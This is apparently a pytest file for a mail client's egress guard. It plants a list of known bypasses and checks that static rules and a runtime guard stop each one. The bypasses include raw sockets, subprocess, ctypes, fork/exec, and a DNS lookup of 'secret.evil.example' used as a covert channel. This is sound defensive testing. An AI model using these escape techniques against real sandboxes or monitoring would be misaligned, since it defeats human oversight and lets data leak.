"""No way out but the listed ones: every known bypass is planted, and a layer must turn red for it.

Two layers are tried here: the rules on imports and calls, which read the code, and the guard
that works while the program runs. The third, the recorded wire, is `draft_life`'s.
"""

from __future__ import annotations

import ast
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from afterword.edges.egress import gate_of
from afterword.edges.settings import load
from suites import Suite
from test_architecture import RULES

ROOT = Path(__file__).resolve().parents[2]
MAIL = "'a@mail.example', ['b@mail.example'], 'Subject: x'"


@dataclass(frozen=True)
class Bypass:
    """A way to get mail, or anything, out; `static` and `guard`: the layers that must see it."""

    name: str
    code: str
    static: bool = True
    guard: bool | None = True  # None: only another layer can see it


BYPASSES = (
    Bypass("smtplib", f"import smtplib\nsmtplib.SMTP('127.0.0.1', PORT, timeout=2).sendmail({MAIL})"),
    Bypass("smtplib late", f"def go():\n    from smtplib import SMTP\n    SMTP('127.0.0.1', PORT, timeout=2).sendmail({MAIL})\ngo()"),
    Bypass("aiosmtplib", "import asyncio, aiosmtplib\nasyncio.run(aiosmtplib.send(b'x', sender='a@b', recipients=['c@d'], hostname='127.0.0.1', port=PORT, timeout=2))"),
    Bypass("raw socket", "import socket\nsocket.create_connection(('127.0.0.1', PORT), 2).send(b'MAIL FROM:<a@b>')"),
    Bypass("asyncio stream", "import asyncio\nasyncio.run(asyncio.open_connection('127.0.0.1', PORT))"),
    Bypass("importlib", "import importlib\nimportlib.import_module('smtp' + 'lib').SMTP('127.0.0.1', PORT, timeout=2)"),
    Bypass("__import__", "__import__('smtplib').SMTP('127.0.0.1', PORT, timeout=2)"),
    Bypass("sys.modules", "import sys, socket as kept\nsys.modules['socket'].create_connection(('127.0.0.1', PORT), 2)"),
    Bypass("subprocess", "import subprocess\nsubprocess.run(['sh', '-c', 'true'])"),
    Bypass("os.system", "import os\nos.system('true')"),
    Bypass("os.popen", "import os\nos.popen('true').read()"),
    Bypass("posix_spawn", "import os\nos.posix_spawn('/bin/true', ['true'], {})"),
    Bypass("the reader's name for another program", "import os, sys\nos.posix_spawn('/bin/true', [sys.executable, '-m', 'afterword.edges.parser_child'], {})"),
    Bypass("fork and exec", "import os\nif not os.fork():\n    os.execv('/bin/true', ['true'])"),
    Bypass("urllib", "import urllib.request\nurllib.request.urlopen(f'http://127.0.0.1:{PORT}/', timeout=2)"),
    Bypass("http.client", "import http.client\nhttp.client.HTTPConnection('127.0.0.1', PORT, timeout=2).request('GET', '/')"),
    Bypass("datagram", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORT))"),
    Bypass("connected datagram", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('127.0.0.1', PORT))\ns.send(b'x')"),
    Bypass("ctypes", "import ctypes\nctypes.CDLL('libc.so.6').system(b'true')"),
    Bypass("SMTPHandler", "import logging\nfrom logging import handlers\nh = handlers.SMTPHandler(('127.0.0.1', PORT), 'a@b', ['c@d'], 's')\nh.handleError = RAISE\nh.emit(logging.makeLogRecord({}))"),
    Bypass("webbrowser mailto", "import webbrowser\nwebbrowser.GenericBrowser('true').open('mailto:a@b?body=x')"),
    Bypass("multiprocessing", "import multiprocessing\nmultiprocessing.get_context('fork').Process(target=print).start()"),
    # our own
    Bypass("look-up as a message", "import socket\nsocket.getaddrinfo('secret.evil.example', 80)"),
    Bypass("syslog over the network", "import logging\nfrom logging import handlers\nh = handlers.SysLogHandler(('127.0.0.1', PORT))\nh.handleError = RAISE\nh.emit(logging.makeLogRecord({'msg': 'x'}))"),
    Bypass("a local mail server's socket", "import socket\nsocket.socket(socket.AF_UNIX).connect(SOCKET)"),
    Bypass("the C module beneath", "import _socket\n_socket.socket(_socket.AF_INET, _socket.SOCK_STREAM).connect(('127.0.0.1', PORT))"),
    Bypass("the allowed server from elsewhere", "import socket\nsocket.create_connection(('127.0.0.1', MAILPORT), 2)"),
    Bypass("the owner's command with other words", "from subprocess import run\nrun(['pass', 'show', 'mail', 'and more'])"),
    Bypass("a fork beneath the library", "import _posixsubprocess\n_posixsubprocess.fork_exec", guard=None),
    Bypass("IMAP Outbox", "mailbox.append('Outbox', b'x', draft=False, at=None)", static=False, guard=None),
)  # fmt: skip

RUN = """
import json, sys
from afterword.edges.egress import Gate, guarded
from afterword.errors import Leak
PORT, MAILPORT, SOCKET, codes = json.loads(sys.stdin.read())
gate = Gate(places=(("127.0.0.1", MAILPORT, "imap_client.py"),), commands=(("pass", "show", "mail"),))
stopped = []
def RAISE(record):
    raise sys.exc_info()[1]
with guarded(gate):
    for code in codes:
        try:
            exec(code, {"PORT": PORT, "MAILPORT": MAILPORT, "SOCKET": SOCKET, "RAISE": RAISE})
        except Leak:
            stopped.append(True)
        except BaseException as error:
            stopped.append(isinstance(error.__cause__ or error.__context__, Leak) or repr(error))
        else:
            stopped.append(False)
json.dump(stopped, sys.stdout)
"""


@dataclass
class Ear:
    """Listens on a TCP and a UDP port and on a Unix socket, and counts who comes."""

    port: int
    mail_port: int
    path: str
    came: list[str]


@pytest.fixture
def ear(tmp_path: Path) -> Iterator[Ear]:
    came: list[str] = []
    tcp, mail = socket.create_server(("127.0.0.1", 0)), socket.create_server(("127.0.0.1", 0))
    port = tcp.getsockname()[1]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", port))
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(str(tmp_path / "mta"))
    unix.listen()
    for name, sock in (("tcp", tcp), ("mail", mail), ("udp", udp), ("unix", unix)):
        threading.Thread(target=_listen, args=(name, sock, came), daemon=True).start()
    yield Ear(port, mail.getsockname()[1], str(tmp_path / "mta"), came)
    for sock in (tcp, mail, unix):
        sock.shutdown(socket.SHUT_RDWR)
        sock.close()
    udp.close()


def _listen(name: str, sock: socket.socket, came: list[str]) -> None:
    try:
        sock.recv(100) if name == "udp" else sock.accept()[0].close()
    except OSError:
        return
    came.append(name)


def stopped_by_the_guard(ear: Ear, *codes: str) -> list[object]:
    """Run each code in one process under the guard; return whether it was stopped."""
    done = subprocess.run(
        [sys.executable, "-W", "ignore", "-c", RUN],
        input=json.dumps([ear.port, ear.mail_port, ear.path, list(codes)]),
        env=os.environ | {"PYTHONPATH": str(ROOT / "daemon")}, capture_output=True, text=True, check=True, timeout=300,
    )  # fmt: skip
    return list(json.loads(done.stdout))


@pytest.mark.parametrize("bypass", BYPASSES, ids=lambda bypass: bypass.name)
def test_the_rules_find_the_bypass(bypass: Bypass, suite: Suite) -> None:
    """Planted into a module that is in order now, it is found by reading, or known not to be."""
    found = any(rule("app.py", ast.parse(bypass.code)) for rule in RULES)

    assert found is bypass.static
    suite.case("bypasses planted")


def test_the_guard_stops_every_bypass(ear: Ear, suite: Suite) -> None:
    """Run while Afterword works, it raises instead of getting out, and nobody hears anything."""
    tried = [bypass for bypass in BYPASSES if bypass.guard is not None]
    stopped = stopped_by_the_guard(ear, *(bypass.code for bypass in tried))

    assert dict(zip((b.name for b in tried), stopped, strict=True)) == {b.name: b.guard for b in tried}
    assert ear.came == []
    suite.case("bypasses run", len(tried))


def test_without_the_guard_the_bypasses_get_out(ear: Ear) -> None:
    """The same ways are open where nothing guards: the test above tests the guard."""
    with socket.create_connection(("127.0.0.1", ear.port), 2), socket.socket(socket.AF_UNIX) as local:
        local.connect(ear.path)
    while len(ear.came) < 2:
        pass

    assert set(ear.came) == {"tcp", "unix"}


CONFIG = """
[applicant]
name = "Priya"
email = "priya@outlook.com"
[[account]]
address = "priya@outlook.com"
client_id = "mine"
[[account]]
address = "priya@lakeside.example"
host = "imap.lakeside.example"
password_command = ["pass", "show", "mail"]
[[account]]
address = "priya@school.example"
host = "imap.school.example"
auth = "oauth2"
token_command = ["token", "for", "me"]
[smtp]
password_command = ["pass", "show", "post"]
"""


def test_the_gate_is_the_configuration(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Mail servers, where our own tokens are renewed (and the proxy on the way), the owner's commands."""
    for name in ("https_proxy", "HTTPS_PROXY"):
        monkeypatch.delenv(name, raising=False)
    (tmp_path / "config.toml").write_text(CONFIG)
    config = load(tmp_path / "config.toml")
    gate = gate_of(config)
    monkeypatch.setenv("https_proxy", "http://proxy.school.example:3128")
    more = gate_of(config)

    assert set(gate.places) == {
        ("outlook.office365.com", 993, "imap_client.py"),
        ("imap.lakeside.example", 993, "imap_client.py"),
        ("imap.school.example", 993, "imap_client.py"),
        ("smtp-mail.outlook.com", 587, "smtp.py"),
        ("login.microsoftonline.com", 443, "oauth.py"),
    }
    assert set(more.places) - set(gate.places) == {("proxy.school.example", 3128, "oauth.py")}
    assert set(gate.commands) == {
        ("pass", "show", "mail"), ("pass", "show", "post"), ("token", "for", "me"),
    }  # fmt: skip


READS = """
import os, subprocess, sys
from afterword.edges.egress import Gate, guarded
from afterword.edges.parser import Parser
from afterword.model import Applicant
with guarded(Gate()):
    words = [sys.executable, "-m", "afterword.edges.parser_child", "1"]
    silent = [(os.POSIX_SPAWN_OPEN, 1, os.devnull, os.O_WRONLY, 0)]
    os.waitpid(os.posix_spawn(sys.executable, words, os.environ, file_actions=silent), 0)
    with Parser() as parser:
        print(parser.read(b"Subject: Hello\\n\\n", applicant=Applicant(name="P", email="p@x.example")).subject)
"""


def test_the_reader_starts_as_newer_pythons_start_it() -> None:
    """Python 3.13 starts a program by posix_spawn: for the reader that is no way out."""
    done = subprocess.run(
        [sys.executable, "-c", READS], env=os.environ | {"PYTHONPATH": str(ROOT / "daemon")},
        stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False, timeout=300,
    )  # fmt: skip

    assert done.stdout.endswith("Hello\n"), done.stderr
